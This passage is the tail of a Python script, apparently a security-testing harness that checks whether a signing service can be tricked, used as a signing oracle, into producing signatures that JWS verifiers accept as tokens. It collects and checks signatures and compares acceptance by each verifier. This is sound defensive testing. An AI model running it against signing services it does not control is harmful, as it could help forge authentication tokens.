            data = token.encode("utf-8") if isinstance(token, str) else token
            jose_tasks.append(((position, form), data))
    with tempfile.TemporaryDirectory(prefix="jws_oracle.") as workdir:
        jose_results = run_jose(jose_tasks, verifiers.jwk, workdir)
    for (position, form), _ in jose_tasks:
        accepted, claims, error = jose_results[(position, form)]
        result = results[position]
        if error:
            result["unexpected"].setdefault("jose", []).append(f"{form}: {error}")
        if accepted and "jose" not in result["forms"]:
            result["forms"]["jose"] = form
            result["claims"]["jose"] = claims
    for result in results:
        if result["signed"]:
            result["acceptedBy"] = [v for v in VERIFIERS if v in result["forms"]]
            if not result["unexpected"]:
                del result["unexpected"]
    return {"variants": results, "totals": totals(results),
            "notAccepted": [r["name"] for r in results if r["signed"] and not r["acceptedBy"]]}


def totals(results):
    signed = [r for r in results if r["signed"]]
    accepted = [r for r in signed if r["acceptedBy"]]
    by_class = {}
    for result in results:
        cls = result["name"].split("/", 1)[0]
        row = by_class.setdefault(cls, {"variants": 0, "signed": 0, "accepted": 0})
        row["variants"] += 1
        row["signed"] += result["signed"]
        row["accepted"] += bool(result.get("acceptedBy"))
    return {
        "variants": len(results),
        "signed": len(signed),
        "refused": len(results) - len(signed),
        "accepted": len(accepted),
        "acceptedBy": {v: sum(v in r["acceptedBy"] for r in signed) for v in VERIFIERS},
        "acceptedWithClaims": {v: sum(bool(r["claims"].get(v)) for r in signed) for v in VERIFIERS},
        "onlyAcceptedBy": {v: sum(r["acceptedBy"] == [v] for r in signed) for v in VERIFIERS},
        "acceptedSized16to64": sum(16 <= r["bytes"] <= 64 for r in accepted),
        "unexpectedErrors": sum(len(e) for r in signed for e in r.get("unexpected", {}).values()),
        "byClass": by_class,
    }


# ---------------------------------------------------------------- commands

def parse_iat(text):
    if text == "now":
        return int(time.time())
    try:
        return int(text)
    except ValueError:
        raise argparse.ArgumentTypeError("iat is an integer or 'now'") from None


def command_corpus(args):
    print(json.dumps(corpus_json(build_corpus(args.seed, args.iat)), indent=1))
    return 0


def command_collect(args):
    command = args.command[1:] if args.command[:1] == ["--"] else args.command
    if not command:
        print("jws_oracle.py collect: give the signing command after --", file=sys.stderr)
        return 2
    variants = corpus_json(build_corpus(args.seed, args.iat))

    def sign(variant):
        try:
            done = subprocess.run(command + [variant["challenge"]], capture_output=True, text=True, timeout=60)
        except (OSError, subprocess.SubprocessError) as error:
            return {"name": variant["name"], "challenge": variant["challenge"], "signature": None,
                    "refusal": f"{type(error).__name__}: {error}"}
        signed = done.returncode == 0 and done.stdout.strip()
        return {"name": variant["name"], "challenge": variant["challenge"],
                "signature": done.stdout.strip() if signed else None,
                "refusal": None if signed else (done.stderr.strip().splitlines() or [f"exit {done.returncode}"])[-1]}

    with ThreadPoolExecutor(max_workers=8) as pool:
        print(json.dumps(list(pool.map(sign, variants)), indent=1))
    return 0


def load_variants(path):
    with open(path, encoding="utf-8") as source:
        items = json.load(source)
    if not isinstance(items, list):
        raise ValueError("the variants file is not a JSON array")
    entries = []
    for item in items:
        signature, refusal = item.get("signature"), item.get("refusal")
        if signature:
            try:
                signature = raw_signature(signature)
            except (ValueError, TypeError, binascii.Error) as error:
                # not a DER signature: useless to an attacker, so not signed
                signature, refusal = None, f"unreadable signature output: {error}"
        entries.append({"name": item["name"], "challenge": b64u_decode(item["challenge"]),
                        "signature": signature or None, "refusal": refusal})
    return entries


def print_report(report, mode):
    report = {"mode": mode, **report}
    print(json.dumps(report, indent=1, default=str))
    t = report["totals"]
    print(f"{mode}: {t['variants']} variants, {t['signed']} signed, {t['refused']} refused, "
          f"{t['accepted']} accepted; by verifier {t['acceptedBy']}; "
          f"{len(report['notAccepted'])} signed but accepted by none; "
          f"{t['unexpectedErrors']} unexpected errors", file=sys.stderr)


def command_check(args):
    try:
        entries = load_variants(args.variants)
        key = lenient_jws.load_public_key(args.public_key)
    except (OSError, ValueError, KeyError, TypeError, binascii.Error) as error:
        print(f"jws_oracle.py check: {error}", file=sys.stderr)
        return 1
    print_report(evaluate(entries, key), "check")
    return 0


def command_control(args):
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
    try:
        with open(args.private_key, "rb") as source:
            private = serialization.load_pem_private_key(source.read(), password=None)
        if not isinstance(private, ec.EllipticCurvePrivateKey) or private.curve.name != "secp256r1":
            raise ValueError("not a P-256 private key")
    except (OSError, ValueError, TypeError) as error:
        print(f"jws_oracle.py control: {error}", file=sys.stderr)
        return 1
    entries = []
    for variant in build_corpus(args.seed, args.iat):
        r, s = decode_dss_signature(private.sign(variant["challenge"], ec.ECDSA(hashes.SHA256())))
        entries.append({"name": variant["name"], "challenge": variant["challenge"],
                        "signature": r.to_bytes(32, "big") + s.to_bytes(32, "big")})
    print_report(evaluate(entries, private.public_key()), "control")
    return 0


def parse_args(argv):
    parser = argparse.ArgumentParser(prog="jws_oracle.py", description="JWS signing-oracle attack corpus and verifier harness")
    commands = parser.add_subparsers(dest="command_name", required=True)

    def corpus_options(sub):
        sub.add_argument("--seed", type=int, default=DEFAULT_SEED)
        sub.add_argument("--iat", type=parse_iat, default=DEFAULT_IAT, help="iat of the claims: seconds or 'now'")

    corpus_options(commands.add_parser("corpus", help="print the corpus"))
    collect = commands.add_parser("collect", help="sign the corpus with a command; print a variants file")
    corpus_options(collect)
    collect.add_argument("command", nargs=argparse.REMAINDER)
    check = commands.add_parser("check", help="check the signatures in a variants file")
    check.add_argument("--public-key", required=True, help="SPKI, standard base64")
    check.add_argument("--variants", required=True, help="JSON array of {name, challenge, signature}")
    control = commands.add_parser("control", help="sign the corpus with a key and check it")
    control.add_argument("--private-key", required=True, help="PEM file (PKCS#8)")
    corpus_options(control)
    return parser.parse_args(argv)


def main(argv):
    args = parse_args(argv)  # exits 2 on bad usage
    handler = {"corpus": command_corpus, "collect": command_collect,
               "check": command_check, "control": command_control}[args.command_name]
    try:
        return handler(args)
    except BrokenPipeError:  # the reader went away (| head): not our failure
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
